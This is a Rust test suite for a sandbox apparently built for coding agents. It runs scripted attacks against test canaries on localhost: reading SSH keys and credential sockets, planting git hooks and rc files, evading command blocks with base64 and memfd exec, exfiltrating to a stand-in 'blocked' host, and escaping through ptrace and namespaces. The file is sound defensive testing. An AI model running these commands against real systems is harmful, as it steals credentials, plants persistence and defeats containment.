// Linux only: the fixtures use abstract unix sockets and the attacks target the
// Linux kernel layer (macOS is cross-checked, see .ci/macos-cross.sh).
#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::expect_used)]
//! The attack suite, one test per class of ../shared/THREATS.md (`tests/threats_support`
//! is the harness). Each case runs as the unprivileged test user: first without
//! sandpit (its effect must show), then under `sandpit run` with every layer and with
//! layers switched off one at a time; it is judged by its effect only. Test hosts come
//! from `[network.resolve]`: `blocked.test` → 127.0.0.1 (recording listeners, also on
//! ::1 and UDP), `allowed.test` → 127.0.0.2 (a sink that answers).
//!
//! `cargo test -p sandpit --test threats -- --nocapture --test-threads 1` prints the
//! tables in order (each class's table is also written to
//! `target/tmp/threats/<class>.md`).
//!
//! Scripts see: `$B`/`$BP` (blocked name/port; `$BP6` on ::1, `$BU` UDP), `$A`/`$AP`
//! (allowed; `$RP` redirects to the blocked listener), `$OUT` (a directory outside the workspace), `$VICTIM` (a host process
//! of the same user with the canary in its environment), `$DAEMON`/`$ADAEMON` (a host
//! daemon on a pathname/abstract unix socket that runs code on request and hands out
//! the canary; `$RDAEMON` the same under `/run`), `$LP` (an allowed host that relays
//! a request for another host there), `$PTY` (another terminal of the same user,
//! outside the sandbox), `$TAG` (a name for processes that try to outlive the run) and
//! `GITHUB_TOKEN` (the canary; the default policy withholds `*_TOKEN`). Cases that
//! need more in their run's home say so with `.with(Setup::…)`.
mod common;
mod threats_support;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;

use threats_support::Expect::{Control, Kernel, Layers, Measured};
use threats_support::{case, run_class, Case, Setup};

/// The kernel-layer probes (tests/kernel_support/*.c, *.py), built once; each run
/// copies them into its workspace.
fn probes() -> &'static Path {
    static DIR: OnceLock<PathBuf> = OnceLock::new();
    DIR.get_or_init(|| {
        let dir = tempfile::Builder::new()
            .prefix("sandpit-threat-probes-")
            .tempdir_in("/tmp")
            .unwrap()
            .keep();
        let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/kernel_support");
        for (name, stat) in [("static_read", true), ("uring_read", false)] {
            let mut c = Command::new("cc");
            c.arg("-O1")
                .arg("-o")
                .arg(dir.join(name))
                .arg(src.join(format!("{name}.c")));
            if stat {
                c.arg("-static");
            }
            let o = c.output().expect("cc must be installed");
            assert!(o.status.success(), "building {name}: {o:?}");
        }
        std::fs::copy(src.join("rawread.py"), dir.join("rawread.py")).unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
        dir
    })
}

/// Copy the probes into the workspace first (the private /tmp inside hides `probes()`).
fn with_probes(script: &str) -> String {
    format!("cp {}/* . 2>/dev/null; {script}", probes().display())
}

#[test]
fn reading_secrets() {
    let all_paths = threats_support::SECRET_PATHS
        .iter()
        .map(|p| format!("\"$HOME/{p}\""))
        .collect::<Vec<_>>()
        .join(" ");
    let cases: Vec<Case> = vec![
        case(
            "control: normal file, carve-out",
            Control,
            "cat ~/notes.txt ~/.ssh/known_hosts | grep -c -e NORMAL -e KNOWN-HOSTS-OK | grep -qx 2 && echo CONTROL-OK",
        ),
        case(
            "every default credential path",
            Kernel,
            &format!("for f in {all_paths}; do cat \"$f\"; done"),
        ),
        case("relative ../", Kernel, "cat ../.ssh/id_rsa ../.aws/credentials"),
        case(
            "// and /./ and ..",
            Kernel,
            "cat $HOME//.ssh/./id_rsa $HOME/project/../.ssh/id_rsa",
        ),
        case(
            "/proc/self/root",
            Kernel,
            "cat /proc/self/root$HOME/.ssh/id_rsa",
        ),
        case("/proc/self/cwd", Kernel, "cat /proc/self/cwd/../.ssh/id_rsa"),
        case(
            "raw openat: abs, dirfd, O_PATH",
            Kernel,
            &with_probes("python3 rawread.py $HOME/.ssh/id_rsa $HOME/.netrc"),
        ),
        case(
            "python open()",
            Kernel,
            "python3 -c 'import os; print(open(os.environ[\"HOME\"]+\"/.ssh/id_rsa\").read())'",
        ),
        case("planted symlink", Kernel, "cat planted-link"),
        case(
            "new symlink",
            Kernel,
            "ln -s $HOME/.ssh/id_rsa l && cat l",
        ),
        case("hard link", Kernel, "ln $HOME/.ssh/id_rsa hl; cat hl"),
        case("copy into workspace", Kernel, "cp $HOME/.ssh/id_rsa copied"),
        case("grep -r HOME", Kernel, "grep -r CANARY $HOME 2>/dev/null"),
        case(
            "static binary",
            Kernel,
            &with_probes("./static_read $HOME/.ssh/id_rsa"),
        ),
        case(
            "io_uring",
            Kernel,
            &with_probes("./uring_read $HOME/.ssh/id_rsa"),
        ),
        case("env -i child", Kernel, "env -i /bin/cat $HOME/.ssh/id_rsa"),
        case(
            "env -u LD_PRELOAD",
            Kernel,
            "env -u LD_PRELOAD cat $HOME/.ssh/id_rsa",
        ),
        case(
            "preload that fails to load",
            Kernel,
            "LD_PRELOAD=/nonexistent/x.so cat $HOME/.ssh/id_rsa",
        ),
        case(
            "ld.so as launcher",
            Kernel,
            "/lib64/ld-linux-x86-64.so.2 /bin/cat $HOME/.ssh/id_rsa",
        ),
        // A withheld variable the agent does not keep never enters the sandbox: the
        // launcher removes it before the command starts.
        case(
            "withheld env var",
            Kernel,
            "echo \"$GITHUB_TOKEN\"; env | grep TOKEN",
        ),
        case(
            "host process environ",
            Kernel,
            "tr '\\0' '\\n' < /proc/$VICTIM/environ",
        ),
        // No process has a withheld variable the agent does not keep, so no
        // ancestor's /proc/<pid>/environ holds one. (The agent's own, env.agent, is
        // guarded by the interposer making it non-dumpable: tests/env.rs.)
        case(
            "ancestors' environ",
            Kernel,
            "p=$$; while [ \"$p\" -gt 1 ] 2>/dev/null; do tr '\\0' '\\n' < /proc/$p/environ; p=$(cut -d' ' -f4 /proc/$p/stat); done",
        ),
        // A credential directory absent at start (~/.azure) that the host creates:
        // the mount guard masks it (namespace mode), Landlock refuses it (degraded
        // mode), the interposer refuses it by path.
        case(
            "secret created after start",
            Kernel,
            &format!("{LATE} cat $HOME/.ssh/late_key $HOME/.azure/late.json"),
        ),
        // The same by the routes where the interposer cannot see the unmasked path
        // in the spelling: relative to the home, from inside the new directory, and
        // through a symlink planted in the workspace before it existed.
        case(
            "late secret, relative path",
            Kernel,
            &format!("{LATE} cd $HOME && cat .azure/late.json; cd .azure && cat late.json"),
        ),
        // The host renaming a file over a masked one detaches the mask (in every
        // mount namespace): the mount guard puts it back.
        case(
            "credential file replaced by the host",
            Kernel,
            &format!("{REPLACED} cat $HOME/.netrc"),
        ),
        case(
            "late secret, planted symlink",
            Kernel,
            &format!("ln -s $HOME/.azure az; {LATE} cat az/late.json"),
        ),
        case(
            "agent socket in /tmp",
            Kernel,
            "python3 -c 'import os,socket; s=socket.socket(socket.AF_UNIX); s.connect(os.environ[\"DAEMON\"]); print(s.recv(100))'",
        ),
        case(
            "abstract agent socket",
            Kernel,
            "python3 -c 'import os,socket; s=socket.socket(socket.AF_UNIX); s.connect(\"\\0\"+os.environ[\"ADAEMON\"]); print(s.recv(100))'",
        ),
        // Agents in the user's runtime directory (systemd's ssh-agent, gcr, the
        // session bus's secret service) listen under /run: all of it is masked.
        case(
            "agent socket under /run",
            Kernel,
            "python3 -c 'import os,socket; s=socket.socket(socket.AF_UNIX); s.connect(os.environ[\"RDAEMON\"]); print(s.recv(100))'",
        ),
        // git's credential cache hands any client the passwords it holds.
        case(
            "git credential cache",
            Kernel,
            "printf 'protocol=https\\nhost=example.test\\n\\n' | git credential-cache get",
        )
        .with(Setup::CredentialCache),
        // An SSH agent where no default looks, named only by SSH_AUTH_SOCK (withheld
        // inside; the path can be guessed or found).
        case(
            "SSH_AUTH_SOCK at an odd path",
            Kernel,
            "python3 -c 'import os,socket; s=socket.socket(socket.AF_UNIX); s.connect(os.environ[\"AGENT\"]); print(s.recv(100))'",
        )
        .with(Setup::SshAgent),
    ];
    run_class("reading secrets", cases);
}

/// Ask the harness for the late secrets and wait until they exist.
const LATE: &str =
    "touch ready-late; i=0; while [ ! -e go-late ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done;";
/// Ask the harness to replace `~/.netrc` and `.git/config` from the host by a rename
/// (as git, editors and credential helpers do) and wait until it has.
const REPLACED: &str =
    "touch ready-replace; i=0; while [ ! -e go-replace ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done;";

const RAW_WRITE: &str = r#"python3 -c '
import ctypes, os
libc = ctypes.CDLL("libc.so.6", use_errno=True)
p = (os.environ["OUT"] + "/existing.txt").encode()
fd = libc.syscall(257, -100, p, os.O_WRONLY | os.O_TRUNC, 0)
print("fd", fd, os.strerror(ctypes.get_errno()))
if fd >= 0: libc.syscall(1, fd, b"pwned", 5)
'"#;

#[test]
fn writing_where_it_must_not() {
    let cases: Vec<Case> = vec![
        case(
            "control: workspace writes",
            Control,
            "echo new > new.txt && mkdir d && mv new.txt d/ && ln -s d/new.txt s && echo more >> s && grep -q more d/new.txt && echo CONTROL-OK",
        ),
        case("create", Kernel, "echo pwned > $OUT/new.txt"),
        case("overwrite", Kernel, "echo pwned > $OUT/existing.txt"),
        case("rename in", Kernel, "mv mine.txt $OUT/renamed.txt"),
        case("rename out", Kernel, "mv $OUT/existing.txt stolen.txt"),
        case("hard link", Kernel, "ln mine.txt $OUT/hl.txt"),
        case(
            "symlink then write",
            Kernel,
            "ln -s $OUT/existing.txt w && echo pwned > w",
        ),
        case(
            "symlinked dir",
            Kernel,
            "ln -s $OUT od && echo pwned > od/x",
        ),
        case("truncate", Kernel, "truncate -s0 $OUT/existing.txt"),
        case("chmod", Kernel, "chmod 600 $OUT/existing.txt"),
        case("utime", Kernel, "touch -d 2001-01-01 $OUT/existing.txt"),
        case("mkdir", Kernel, "mkdir $OUT/newdir"),
        case(
            "through /proc/self/root",
            Kernel,
            "echo pwned > /proc/self/root$OUT/new.txt",
        ),
        case("unlink", Kernel, "rm -f $OUT/existing.txt"),
        case("raw syscall write", Kernel, RAW_WRITE),
        case(
            ".git/hooks",
            Kernel,
            "printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit",
        ),
        case(
            ".git/config",
            Kernel,
            "printf '[core]\\nfsmonitor = evil\\n' >> .git/config",
        ),
        // The host renaming a file over a protected one (`git config` does) detaches
        // its read-only bind: the mount guard puts it back.
        case(
            ".git/config replaced by the host",
            Kernel,
            &format!("{REPLACED} printf '[core]\\nfsmonitor = evil\\n' >> .git/config"),
        ),
        case(
            ".sandpit.toml (absent)",
            Kernel,
            "echo '[network]' > .sandpit.toml",
        ),
        case(
            ".claude/ (absent)",
            Kernel,
            "mkdir -p .claude && echo '{}' > .claude/settings.json",
        ),
        case(
            ".vscode/ (absent)",
            Kernel,
            "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
        ),
        case(".mcp.json (absent)", Kernel, "echo '{}' > .mcp.json"),
        case(".envrc (absent)", Kernel, "echo 'curl evil' > .envrc"),
        case("~/.bashrc", Kernel, "echo evil >> ~/.bashrc"),
        case("~/.profile (absent)", Kernel, "echo evil > ~/.profile"),
        case(
            "run later by the host",
            Kernel,
            "mkdir -p ~/.local/bin ~/.config/autostart; echo evil > ~/.local/bin/ls; echo evil > ~/.config/autostart/x.desktop",
        ),
        case(
            "~/.sandpit/config.toml",
            Kernel,
            "printf '[network]\\nmode = \"unrestricted\"\\n' >> ~/.sandpit/config.toml",
        ),
        case(
            "policy snapshot",
            Kernel,
            "printf TAMPER >> \"$SANDPIT_SNAPSHOT\" && grep -q TAMPER \"$SANDPIT_SNAPSHOT\" && echo EFFECT:snapshot",
        ),
        case(
            "shim directory",
            Kernel,
            "printf x >> \"$SANDPIT_SHIM_DIR/curl\" && echo EFFECT:shim",
        ),
        // A linked worktree's `.git` file names its repository; pointed at one the
        // sandbox made, the user's git would run that repository's config.
        case(
            ".git file of a worktree",
            Kernel,
            "mkdir -p evil; printf 'gitdir: evil\\n' > .git; printf 'gitdir: evil\\n' > g && mv -f g .git",
        )
        .with(Setup::LinkedWorktree),
        // A worktree hooks directory (husky): the user's next `git commit` runs it.
        case(
            "worktree hooksPath (husky)",
            Kernel,
            "printf '#!/bin/sh\\nevil\\n' > .husky/pre-commit; echo evil > .husky/_/pre-push",
        )
        .with(Setup::HooksPath),
        case(
            "extracted interposer",
            Kernel,
            "L=${LD_PRELOAD%%:*}; [ -n \"$L\" ] || L=$OUT/lib.so; printf X >> \"$L\" && echo EFFECT:lib",
        ),
    ];
    run_class("writing where it must not", cases);
}

#[test]
fn running_what_is_blocked() {
    // `[exec] block = ["forbidden-tool"]`; the tool is a copy of touch whose effect
    // is a `ran-marker` file. The kernel layer does not judge command lines: these
    // cases measure the precision layers (THREATS.md: judged for recall).
    //
    // The script is a file (`sh ./.threat-case.sh`), so naming the tool in it is
    // what a shell's own exec of it shows. A program started with its code on its
    // command line (`python3 -c`, `perl -e`, `node -e`, `bash -c`) would be refused
    // whole for naming the tool there, before the route the case names is tried: those
    // cases build the name as they run (`"forbidden" + "-tool"`), as an attacker
    // avoiding a pattern would, so only the route itself can refuse it.
    let p = "export PATH=$PWD/bin:$PATH; ";
    let c = |name, expect, s: &str| case(name, expect, &format!("{p}{s}"));
    let cases: Vec<Case> = vec![
        c(
            "control: other tools run",
            Control,
            "touch made && [ -e made ] && echo CONTROL-OK",
        ),
        c("direct", Layers, "forbidden-tool ran-marker"),
        c("quoting", Layers, "\"forbid\"'den-tool' ran-marker"),
        // Field splitting makes the arguments: no space in the text.
        c("$IFS", Layers, "forbidden-tool${IFS}ran-marker"),
        c(
            "\\x escapes",
            Layers,
            "$(printf 'forbidden\\055tool') ran-marker",
        ),
        c(
            "base64 piped to sh",
            Layers,
            "echo Zm9yYmlkZGVuLXRvb2wgcmFuLW1hcmtlcgo= | base64 -d | sh",
        ),
        c("function", Layers, "f() { forbidden-tool \"$@\"; }; f ran-marker"),
        c(
            "alias",
            Layers,
            "bash -c 'shopt -s expand_aliases; alias ok=forbidden\"-tool\"\nok ran-marker'",
        ),
        c(
            "python -c",
            Layers,
            "python3 -c 'import subprocess; subprocess.run([\"forbidden\" + \"-tool\", \"ran-marker\"])'",
        ),
        c(
            "perl -e",
            Layers,
            "perl -e 'system(\"forbidden\" . \"-tool\", \"ran-marker\")'",
        ),
        c(
            "node -e",
            Layers,
            "node -e 'require(\"child_process\").execFileSync(\"forbidden\" + \"-tool\", [\"ran-marker\"])'",
        ),
        c("absolute path", Layers, "$PWD/bin/forbidden-tool ran-marker"),
        // The kernel runs the command a script's `#!` line names (the tool's name
        // comes from a directory listing).
        c(
            "#! line",
            Layers,
            "printf '#!%s/bin/%s ran-marker\\n' \"$PWD\" \"$(ls bin)\" > s && chmod +x s && ./s",
        ),
        c(
            "#! line, two levels",
            Layers,
            "printf '#!%s/bin/%s ran-marker\\n' \"$PWD\" \"$(ls bin)\" > s1 && printf '#!%s/s1\\n' \"$PWD\" > s2 && chmod +x s1 s2 && ./s2",
        ),
        c(
            "ld.so as launcher",
            Layers,
            "/lib64/ld-linux-x86-64.so.2 $PWD/bin/forbidden-tool ran-marker",
        ),
        c(
            "posix_spawn",
            Layers,
            "python3 -c 'import os; p = \"bin/forbidden\" + \"-tool\"; os.waitpid(os.posix_spawn(p, [p, \"ran-marker\"], dict(os.environ)), 0)'",
        ),
        c(
            "system()",
            Layers,
            "python3 -c 'import os; os.system(\"forbidden\" + \"-tool ran-marker\")'",
        ),
        // The C library's popen (Python's os.popen is subprocess, an execve).
        c(
            "popen()",
            Layers,
            "python3 -c 'import ctypes; c = ctypes.CDLL(None); c.popen.restype = ctypes.c_void_p; c.pclose.argtypes = [ctypes.c_void_p]; f = c.popen(b\"forbidden\" + b\"-tool ran-marker\", b\"r\"); f and c.pclose(f)'",
        ),
        // The last three never name the tool on a command line (the name comes from
        // a directory listing) and exec it as something else.
        c(
            "fexecve",
            Measured,
            "python3 -c 'import os; fd = os.open(\"bin/\" + os.listdir(\"bin\")[0], os.O_RDONLY); os.execve(fd, [\"t\", \"ran-marker\"], dict(os.environ))'",
        ),
        c(
            "renamed copy",
            Measured,
            "python3 -c 'import os, shutil; shutil.copy(\"bin/\" + os.listdir(\"bin\")[0], \"innocent\")' && ./innocent ran-marker",
        ),
        c(
            "memfd exec",
            Measured,
            "python3 -c 'import os; b = open(\"bin/\" + os.listdir(\"bin\")[0], \"rb\").read(); fd = os.memfd_create(\"x\"); os.write(fd, b); os.execve(\"/proc/self/fd/%d\" % fd, [\"x\", \"ran-marker\"], dict(os.environ))'",
        ),
    ];
    run_class("running what is blocked", cases);
}

/// Python: send "EXFIL" over TCP with the libc socket calls made as raw syscalls
/// (the interposer does not see them).
const RAW_CONNECT: &str = r#"python3 -c '
import ctypes, os, socket, struct
libc = ctypes.CDLL("libc.so.6", use_errno=True)
fd = libc.syscall(41, socket.AF_INET, socket.SOCK_STREAM, 0)
addr = struct.pack("!HH4s8x", socket.AF_INET, int(os.environ["BP"]), socket.inet_aton("127.0.0.1"))
addr = struct.pack("=H", socket.AF_INET) + addr[2:]
r = libc.syscall(42, fd, addr, len(addr))
print("connect", r, os.strerror(ctypes.get_errno()))
if r == 0: libc.syscall(1, fd, b"EXFIL", 5)
'"#;

/// Python: two pipelined requests on one proxy connection, the second to the
/// blocked host (bare: straight to the blocked listener).
const PIPELINED: &str = r#"python3 -c '
import base64, os, socket, urllib.parse
u = urllib.parse.urlparse(os.environ.get("HTTP_PROXY") or "http://127.0.0.1:" + os.environ["BP"])
auth = base64.b64encode(("%s:%s" % (u.username, u.password)).encode()).decode() if u.username else ""
s = socket.create_connection((u.hostname, u.port), timeout=5)
a, b = "%s:%s" % (os.environ["A"], os.environ["AP"]), "%s:%s" % (os.environ["B"], os.environ["BP"])
req = lambda h: ("GET http://%s/ HTTP/1.1\r\nHost: %s\r\nProxy-Authorization: Basic %s\r\n\r\n" % (h, h, auth)).encode()
s.sendall(req(a) + req(b) + b"EXFIL")
print(s.recv(4096))
'"#;

/// Python: open a stream to the allowed relay (`$LP`: it sends a request for another
/// host on there) through the proxy's CONNECT (bare: straight to it), get one
/// answered request, then send `SMUGGLE` (formatted with the blocked authority and
/// the relay's).
const RELAYED: &str = r#"python3 -c '
import base64, os, socket, urllib.parse
a, b = "%s:%s" % (os.environ["A"], os.environ["LP"]), "%s:%s" % (os.environ["B"], os.environ["BP"])
p = os.environ.get("HTTP_PROXY")
if p:
    u = urllib.parse.urlparse(p)
    auth = base64.b64encode(("%s:%s" % (u.username, u.password)).encode()).decode() if u.username else ""
    s = socket.create_connection((u.hostname, u.port), timeout=5)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\nProxy-Authorization: Basic %s\r\n\r\n" % (a, a, auth)).encode())
    print(s.recv(4096))
else:
    s = socket.create_connection((os.environ["A"], int(os.environ["LP"])), timeout=5)
s.sendall(("GET / HTTP/1.1\r\nHost: %s\r\nFIRST\r\n\r\n" % a).encode())
print(s.recv(4096))
s.sendall(("SMUGGLE" % (b, a)).encode() + b"EXFIL")
s.settimeout(1)
try: print(s.recv(4096))
except OSError: pass
'"#;

/// A request on a stream to an allowed host, after the first: `first` is a header
/// of the first request, `smuggled` the second (`%s` the blocked authority, then the
/// allowed one).
fn relayed(first: &str, smuggled: &str) -> String {
    RELAYED.replace("FIRST", first).replace("SMUGGLE", smuggled)
}

/// Stop every ancestor named sandpit (the launcher and its proxy), send, resume them.
const STOP_LAUNCHER: &str = r#"
stopped=""; p=$PPID
while [ "$p" -gt 1 ] 2>/dev/null; do
  if grep -q sandpit /proc/$p/comm 2>/dev/null && kill -STOP $p 2>/dev/null; then stopped="$stopped $p"; fi
  p=$(cut -d' ' -f4 /proc/$p/stat)
done
echo "stopped:$stopped"
python3 -c 'import os,socket; s=socket.create_connection(("127.0.0.1", int(os.environ["BP"])), timeout=3); s.sendall(b"EXFIL")'
for p in $stopped; do kill -CONT $p; done
"#;

#[test]
fn getting_data_out() {
    let curl = "curl -sS -m 5 --data EXFIL";
    let py_send = |host: &str| {
        format!(
            "python3 -c 'import os,socket; s=socket.create_connection(({host}, int(os.environ[\"BP\"])), timeout=5); s.sendall(b\"EXFIL\"); print(s.recv(100))'"
        )
    };
    let cases: Vec<Case> = vec![
        case(
            "control: allowed host",
            Control,
            "curl -sS -m 10 http://$A:$AP/ | grep -q sink:allowed && echo CONTROL-OK",
        ),
        case(
            "proxy variables, blocked name",
            Kernel,
            &format!("{curl} http://$B:$BP/"),
        ),
        case(
            "--noproxy, blocked name",
            Kernel,
            &format!("{curl} --noproxy '*' http://$B:$BP/"),
        ),
        case(
            "--noproxy, 127.0.0.1",
            Kernel,
            &format!("{curl} --noproxy '*' http://127.0.0.1:$BP/"),
        ),
        case(
            "127.1",
            Kernel,
            &format!("{curl} http://127.1:$BP/; {curl} --noproxy '*' http://127.1:$BP/"),
        ),
        case(
            "2130706433",
            Kernel,
            &format!(
                "{curl} http://2130706433:$BP/; {curl} --noproxy '*' http://2130706433:$BP/"
            ),
        ),
        case(
            "0x7f000001",
            Kernel,
            &format!(
                "{curl} http://0x7f000001:$BP/; {curl} --noproxy '*' http://0x7f000001:$BP/"
            ),
        ),
        case(
            "[::ffff:127.0.0.1]",
            Kernel,
            &format!(
                "{curl} -g http://[::ffff:127.0.0.1]:$BP/; {curl} -g --noproxy '*' http://[::ffff:127.0.0.1]:$BP/"
            ),
        ),
        case(
            "IPv6 [::1]",
            Kernel,
            &format!("{curl} -g http://[::1]:$BP6/; {curl} -g --noproxy '*' http://[::1]:$BP6/"),
        ),
        case(
            "CONNECT tunnel",
            Kernel,
            &format!("{curl} -p http://$B:$BP/"),
        ),
        case(
            "SOCKS5 (proxy resolves)",
            Kernel,
            &format!("{curl} -x \"$(echo \"$ALL_PROXY\" | sed 's/^http/socks5h/')\" http://$B:$BP/"),
        ),
        case(
            "SOCKS5 to an address",
            Kernel,
            &format!(
                "{curl} -x \"$(echo \"$ALL_PROXY\" | sed 's/^http/socks5/')\" http://127.0.0.1:$BP/"
            ),
        ),
        case(
            "socket to blocked name",
            Kernel,
            &py_send("os.environ[\"B\"]"),
        ),
        case("socket to 127.0.0.1", Kernel, &py_send("\"127.0.0.1\"")),
        case("raw-syscall connect", Kernel, RAW_CONNECT),
        case(
            "UDP",
            Kernel,
            "python3 -c 'import os,socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b\"EXFIL\", (\"127.0.0.1\", int(os.environ[\"BU\"])))'",
        ),
        case(
            "TCP Fast Open",
            Kernel,
            "python3 -c 'import os,socket; s=socket.socket(); s.sendto(b\"EXFIL\", socket.MSG_FASTOPEN, (\"127.0.0.1\", int(os.environ[\"BP\"])))'",
        ),
        case(
            "trailing dot and case",
            Kernel,
            &format!("{curl} http://BLOCKED.Test.:$BP/; {curl} --noproxy '*' http://BLOCKED.Test.:$BP/"),
        )
        .bare(&format!("{curl} --resolve BLOCKED.Test.:$BP:127.0.0.1 http://BLOCKED.Test.:$BP/")),
        case(
            "userinfo allowed@blocked",
            Kernel,
            &format!("{curl} http://$A@$B:$BP/"),
        ),
        case(
            "curl --resolve allowed→127.0.0.1",
            Kernel,
            &format!("{curl} --resolve allowed.test:$BP:127.0.0.1 http://allowed.test:$BP/; {curl} --noproxy '*' --resolve allowed.test:$BP:127.0.0.1 http://allowed.test:$BP/"),
        ),
        case("pipelined second host", Kernel, PIPELINED),
        // On a stream to an allowed host that relays by request: a request for the
        // blocked host after an Upgrade the server did not take (no 101), and a
        // CONNECT to it inside the stream whose Host names the allowed one.
        case(
            "after an Upgrade answered 200",
            Kernel,
            &relayed(
                "Upgrade: websocket",
                "GET / HTTP/1.1\\r\\nHost: %s\\r\\nX-Via: %s\\r\\n\\r\\n",
            ),
        ),
        case(
            "CONNECT inside a stream",
            Kernel,
            &relayed(
                "X-First: 1",
                "CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n",
            ),
        ),
        case(
            "redirect from an allowed host",
            Kernel,
            &format!("{curl} -L http://$A:$RP/; {curl} -L --noproxy '*' http://$A:$RP/"),
        ),
        case("stop the launcher, then send", Kernel, STOP_LAUNCHER),
    ];
    run_class("getting data out", cases);
}

#[test]
fn escaping_or_outliving_it() {
    let cases: Vec<Case> = vec![
        case(
            "control: own processes",
            Control,
            "sleep 0.1 & wait $! && kill -0 $$ && echo CONTROL-OK",
        ),
        case("kill a host process", Kernel, "kill -9 $VICTIM"),
        case(
            "ptrace a host process",
            Kernel,
            "python3 -c 'import ctypes,os; l=ctypes.CDLL(\"libc.so.6\"); v=int(os.environ[\"VICTIM\"]); r=l.ptrace(16, v, 0, 0); print(\"EFFECT:attached\" if r == 0 else \"attach refused\"); os.waitpid(v, 0) if r == 0 else 0; l.ptrace(17, v, 0, 0)'",
        ),
        case(
            "nested user namespace",
            Kernel,
            "unshare -Ur sh -c 'echo EFFECT:userns'",
        ),
        case(
            "mount in a new namespace",
            Kernel,
            "unshare -Urm sh -c 'mount -t tmpfs x /mnt && echo EFFECT:mount'",
        ),
        case(
            "setsid daemon",
            Kernel,
            "cp /bin/sleep ./$TAG; setsid ./$TAG 300 >/dev/null 2>&1 </dev/null &",
        ),
        case(
            "double fork",
            Kernel,
            "cp /bin/sleep ./$TAG; ( (./$TAG 301 >/dev/null 2>&1 </dev/null &) & )",
        ),
        case(
            "nohup",
            Kernel,
            "cp /bin/sleep ./$TAG; nohup ./$TAG 302 >/dev/null 2>&1 </dev/null &",
        ),
        case(
            "host daemon on a /tmp socket",
            Kernel,
            "python3 -c 'import os,socket; s=socket.socket(socket.AF_UNIX); s.connect(os.environ[\"DAEMON\"]); s.sendall(b\"RUN\"); s.recv(100)'",
        ),
        case(
            "host daemon on an abstract socket",
            Kernel,
            "python3 -c 'import os,socket; s=socket.socket(socket.AF_UNIX); s.connect(\"\\0\"+os.environ[\"ADAEMON\"]); s.sendall(b\"RUN\"); s.recv(100)'",
        ),
        // Like a GNU screen session's /run/screen/S-user/<session> (`screen -X
        // stuff` types into the user's shell).
        case(
            "host daemon under /run",
            Kernel,
            "python3 -c 'import os,socket; s=socket.socket(socket.AF_UNIX); s.connect(os.environ[\"RDAEMON\"]); s.sendall(b\"RUN\"); s.recv(100)'",
        ),
        // Another terminal of the user (a shell in another window): written to (a
        // spoofed prompt), its settings changed. (TIOCSTI into it is refused by seccomp
        // whatever the terminal: tests/kernel_proc.rs.)
        case(
            "other terminal: write",
            Kernel,
            "echo INJECTED > $PTY",
        ),
        case(
            "other terminal: stty -echo",
            Kernel,
            "stty -echo < $PTY",
        ),
    ];
    run_class("escaping or outliving it", cases);
}
